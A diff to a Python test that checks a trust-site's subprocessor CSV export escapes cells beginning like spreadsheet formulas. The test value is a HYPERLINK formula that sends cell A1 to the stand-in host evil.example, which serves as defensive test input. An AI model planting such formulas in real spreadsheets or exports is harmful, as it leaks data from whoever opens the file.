@@ -186,21 +186,21 @@ def test_every_built_page_carries_the_policy_first_in_its_head(minimal_copy: Pat
 
 
 def test_csv_cells_never_start_like_a_formula(minimal_copy: Path) -> None:
+    import dataclasses
+
     from trustsite.export.subprocessors import build_subprocessors, subprocessors_csv, subprocessors_json
     from trustsite.project import check_project
 
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Example Mail")'
-    data = minimal_copy / "data" / "subprocessors.yml"
-    text = data.read_text(encoding="utf-8").replace("name: Example Mail", f"name: '{formula}'")
-    text = text.replace("legal_entity: Example Mail Inc.", "legal_entity: '+Example -Mail @Inc'")
-    data.write_text(text, encoding="utf-8")
     project, problems = check_project(minimal_copy, dt.date(2026, 7, 1))
     assert project is not None, problems
+    mailer = project.subprocessors["mailer"].model_copy(update={"name": formula, "legal_entity": "+Example -Mail @Inc"})
+    project = dataclasses.replace(project, subprocessors={**project.subprocessors, "mailer": mailer})
     export = build_subprocessors(project, dt.date(2026, 7, 1), "https://trust.example.com/schema.json")
     rows = list(csv.DictReader(io.StringIO(subprocessors_csv(export), newline="")))
-    mailer = next(row for row in rows if row["id"] == "mailer")
-    assert mailer["name"] == "'" + formula
-    assert mailer["legal_entity"] == "'+Example -Mail @Inc"
+    row = next(row for row in rows if row["id"] == "mailer")
+    assert row["name"] == "'" + formula
+    assert row["legal_entity"] == "'+Example -Mail @Inc"
     for row in rows:
         assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
     as_json = json.loads(subprocessors_json(export))  # the JSON keeps the value as it is
